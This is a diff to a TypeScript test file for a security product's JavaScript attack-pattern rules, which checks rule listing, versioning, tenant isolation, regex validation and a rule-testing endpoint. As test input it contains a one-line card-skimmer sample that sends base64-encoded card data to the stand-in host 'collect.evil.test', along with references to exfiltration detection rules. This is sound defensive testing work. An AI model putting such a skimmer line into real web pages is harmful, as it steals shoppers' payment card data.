@@ -3,6 +3,7 @@
 // regex a 422 with RE2's reason), tests a pasted script, and never writes a default rule nor reads
 // or writes another company's rule.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { answerOf, validationOf } from '../../../testing/api.js';
 import { json } from '../../../testing/flows.js';
 import { newTenant, type Tenant } from '../../../testing/monitoring.js';
 import { openTestDatabase, type TestDatabase, testApp, type VigilApp } from '../../../testing/test-app.js';
@@ -16,17 +17,6 @@ let analyst: Tenant;
 let viewer: Tenant;
 let other: Tenant;
 
-interface RuleView {
-  id: number;
-  key: string;
-  owner: 'vigil' | 'company';
-  enabled: boolean;
-  version: number;
-  hits: number;
-  name: string;
-  definition: { conditions: { id: string }[] };
-}
-
 const skimmerRule = {
   name: 'Our exfil host',
   family: 'Magecart skimmer',
@@ -38,7 +28,7 @@ const skimmerRule = {
 const rules = async (who: Tenant, query = '') => {
   const response = await who.browser.get(`/api/js-rules?page_size=100&${query}`, { token: who.token });
   expect(response.statusCode, response.body).toBe(200);
-  return json<{ data: RuleView[]; meta: { total: number }; families: string[] }>(response);
+  return answerOf('listJsRules', response);
 };
 const post = (who: Tenant, path: string, body: unknown) => who.browser.post(`/api${path}`, body, { token: who.token });
 const put = (who: Tenant, path: string, body: unknown) =>
@@ -76,7 +66,7 @@ describe('JS attack-pattern rules', () => {
     expect(target?.owner).toBe('vigil');
     const off = await put(analyst, `/js-rules/${target?.id}/enabled`, { enabled: false });
     expect(off.statusCode, off.body).toBe(200);
-    expect(json<{ data: RuleView }>(off).data.enabled).toBe(false);
+    expect(answerOf('setJsRuleEnabled', off).data.enabled).toBe(false);
     expect((await rules(admin, 'enabled=false')).data.map((r) => r.key)).toEqual(['VGL-OBF-001']);
     expect((await rules(other, 'enabled=false')).data).toEqual([]);
     const ruleSet = await loadRuleSet(app.ctx.db, admin.companyId);
@@ -92,14 +82,13 @@ describe('JS attack-pattern rules', () => {
   it('creates, versions, tests and deletes a rule of the company’s own', async () => {
     const created = await post(analyst, '/js-rules', skimmerRule);
     expect(created.statusCode, created.body).toBe(201);
-    const rule = json<{ data: RuleView }>(created).data;
+    const rule = answerOf('createJsRule', created).data;
     expect(rule).toMatchObject({ key: 'CUS-001', owner: 'company', version: 1, enabled: true });
 
     const changed = await put(analyst, `/js-rules/${rule.id}`, { ...skimmerRule, name: 'Our exfil hosts' });
-    expect(json<{ data: RuleView }>(changed).data).toMatchObject({ version: 2, name: 'Our exfil hosts' });
+    expect(answerOf('updateJsRule', changed).data).toMatchObject({ version: 2, name: 'Our exfil hosts' });
     const detail = await admin.browser.get(`/api/js-rules/${rule.id}`, { token: admin.token });
-    const versions = json<{ data: { versions: { version: number; name: string; changed_by: string }[] } }>(detail).data
-      .versions;
+    const versions = answerOf('getJsRule', detail).data.versions;
     expect(versions.map((v) => [v.version, v.name])).toEqual([
       [2, 'Our exfil hosts'],
       [1, 'Our exfil host'],
@@ -110,9 +99,7 @@ describe('JS attack-pattern rules', () => {
       script: 'var i = new Image(); i.src = "https://collect.evil.test/c?d=" + btoa(card.value);',
     });
     expect(tested.statusCode, tested.body).toBe(200);
-    const hits = json<{ data: { hits: { key: string; matched: string[]; excerpt: string }[]; rules_run: number } }>(
-      tested,
-    ).data;
+    const hits = answerOf('testJsRules', tested).data;
     expect(hits.rules_run).toBe(defaultRules.length + 1);
     expect(hits.hits.map((h) => h.key).sort()).toEqual(['CUS-001', 'VGL-EXFIL-001', 'VGL-EXFIL-002']);
     expect(hits.hits.find((h) => h.key === 'CUS-001')?.excerpt).toContain('collect.evil.test');
@@ -133,21 +120,19 @@ describe('JS attack-pattern rules', () => {
       definition: { conditions: [{ id: 'x', target: 'content', op: 'regex', value: 'card(?=number)' }] },
     });
     expect(lookahead.statusCode).toBe(422);
-    expect(json<{ errors: Record<string, string[]> }>(lookahead).errors['definition.conditions.0.value']?.[0]).toMatch(
-      /does not compile.*\(\?=/,
-    );
+    expect(validationOf(lookahead).errors['definition.conditions.0.value']?.[0]).toMatch(/does not compile.*\(\?=/);
     const mismatch = await post(admin, '/js-rules/test', {
       script: 'x',
       definition: { conditions: [{ id: 'x', target: 'behaviour', op: 'regex', value: 'a' }] },
     });
-    expect(json<{ errors: Record<string, string[]> }>(mismatch).errors).toEqual({
+    expect(validationOf(mismatch).errors).toEqual({
       'definition.conditions.0.op': ['A behaviour condition takes is.'],
     });
     const atLeast = await post(admin, '/js-rules', {
       ...skimmerRule,
       definition: { match: 'at_least', at_least: 3, conditions: skimmerRule.definition.conditions },
     });
-    expect(Object.keys(json<{ errors: object }>(atLeast).errors)).toEqual(['definition.at_least']);
+    expect(Object.keys(validationOf(atLeast).errors)).toEqual(['definition.at_least']);
     expect((await post(viewer, '/js-rules', skimmerRule)).statusCode).toBe(403);
   });
 
@@ -164,7 +149,7 @@ describe('JS attack-pattern rules', () => {
       },
     });
     expect(tested.statusCode, tested.body).toBe(200);
-    const data = json<{ data: { hits: { matched: string[] }[]; duration_ms: number } }>(tested).data;
+    const data = answerOf('testJsRules', tested).data;
     expect(data.hits).toEqual([]);
     expect(data.duration_ms).toBeLessThan(5_000);
     const tooLong = await post(admin, '/js-rules/test', { script: 'x'.repeat(1_048_577) });
